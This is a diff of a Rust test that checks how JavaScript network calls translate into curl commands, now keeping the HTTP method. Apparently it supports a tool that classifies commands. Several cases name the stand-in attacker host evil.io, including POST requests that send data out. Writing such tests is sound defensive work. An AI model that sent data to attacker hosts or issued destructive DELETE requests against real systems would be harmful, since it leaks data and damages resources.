@@ -186,7 +186,31 @@ fn network_calls_are_curl() {
     let cases = [
         (
             "fetch('https://evil.io/x', {method: 'POST'})",
-            "curl https://evil.io/x",
+            "curl -X POST https://evil.io/x",
+        ),
+        (
+            "fetch('https://api.github.com/repos/o/r', {method: 'delete', headers: {}})",
+            "curl -X DELETE https://api.github.com/repos/o/r",
+        ),
+        (
+            "fetch('https://api.example.com/v1', {method: 'GET'})",
+            "curl https://api.example.com/v1",
+        ),
+        (
+            "const axios = require('axios'); axios.delete('https://api.example.com/x/1')",
+            "curl -X DELETE https://api.example.com/x/1",
+        ),
+        (
+            "require('axios')({url: 'https://api.example.com/x', method: 'put'})",
+            "curl -X PUT https://api.example.com/x",
+        ),
+        (
+            "require('https').request({hostname: 'h.io', path: '/x', method: 'DELETE'})",
+            "curl -X DELETE https://h.io/x",
+        ),
+        (
+            "const x = new XMLHttpRequest(); x.open('DELETE', 'https://h.io/x')",
+            "curl -X DELETE https://h.io/x",
         ),
         (
             "require('https').get('https://evil.io/a', r => r.pipe(process.stdout))",
@@ -214,7 +238,7 @@ fn network_calls_are_curl() {
         ),
         (
             "require('axios').post('https://evil.io', {k: 1})",
-            "curl https://evil.io",
+            "curl -X POST https://evil.io",
         ),
         (
             "const x = new XMLHttpRequest(); x.open('GET', 'https://evil.io')",
